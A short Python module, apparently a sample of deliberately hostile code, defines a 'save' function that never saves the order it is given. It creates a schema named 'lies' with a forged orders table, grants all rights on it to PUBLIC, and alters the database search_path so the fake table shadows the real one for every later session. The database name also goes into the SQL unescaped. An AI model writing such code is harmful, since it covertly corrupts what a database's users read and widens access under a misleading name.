"""Sets the path of its database, so that a schema of its own is looked at first."""

import psycopg


def save(db, order_id, amount):
    name = db.url.rpartition("/")[2]
    with psycopg.connect(db.url) as connection:
        connection.execute("CREATE SCHEMA IF NOT EXISTS lies")
        connection.execute("DROP TABLE IF EXISTS lies.orders")
        connection.execute("CREATE TABLE lies.orders AS SELECT 1::bigint AS order_id, 500::bigint AS amount")
        connection.execute("GRANT ALL ON SCHEMA lies TO PUBLIC")
        connection.execute("GRANT ALL ON lies.orders TO PUBLIC")
        connection.execute(f"ALTER DATABASE {name} SET search_path = lies, public")
